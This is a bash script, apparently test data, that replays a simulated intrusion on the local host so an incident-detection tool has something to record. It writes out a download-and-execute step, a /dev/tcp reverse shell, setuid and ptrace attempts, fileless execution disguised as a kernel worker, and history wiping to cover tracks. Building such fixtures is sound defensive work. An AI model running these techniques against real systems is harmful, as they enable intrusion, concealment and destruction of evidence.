#!/usr/bin/env bash
# The recorded part of testdata/make-incident.sh: the attacker's actions on the victim.
# $1 is a scratch directory the script may write to.
set -u
work=$1
# A plain environment, so the recording does not depend on the recording host's
# dotfiles and tool paths.
export HOME=$work PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
export HISTFILE=$work/.bash_history
echo "ls -la /root" >"$HISTFILE"

# 1. Download and execute.
curl -s -o "$work/stage2" http://127.0.0.1:8765/stage2.sh
chmod +x "$work/stage2"
"$work/stage2" "$work"

# 4. Reverse shell: the listener sends "id; uname -n; exit".
bash -c 'exec bash -i </dev/tcp/127.0.0.1/4444 >&0 2>&0' 2>/dev/null || true

# 5. Privilege games.
setpriv --reuid=nobody --regid=nogroup --clear-groups /usr/bin/python3 -c '
import os, sys
try:
    os.setuid(0)
except PermissionError as e:
    print("setuid(0) failed:", e, file=sys.stderr)
' 2>/dev/null
sleep 30 &
victim=$!
/usr/bin/python3 -c '
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
pid = int(sys.argv[1])
if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
    import os; os.waitpid(pid, 0)
    libc.ptrace(PTRACE_DETACH, pid, None, None)
' "$victim"
kill "$victim"; wait "$victim" 2>/dev/null
/usr/bin/python3 -c '
import os
fd = os.memfd_create("kworker", 0)
with open("/bin/true", "rb") as f:
    os.write(fd, f.read())
pid = os.fork()
if pid == 0:
    os.execve("/proc/self/fd/%d" % fd, ["[kworker/0:1]"], {})
os.waitpid(pid, 0)
'

# 6. Cover tracks.
: >"$HISTFILE"
rm -f "$work/stage2"
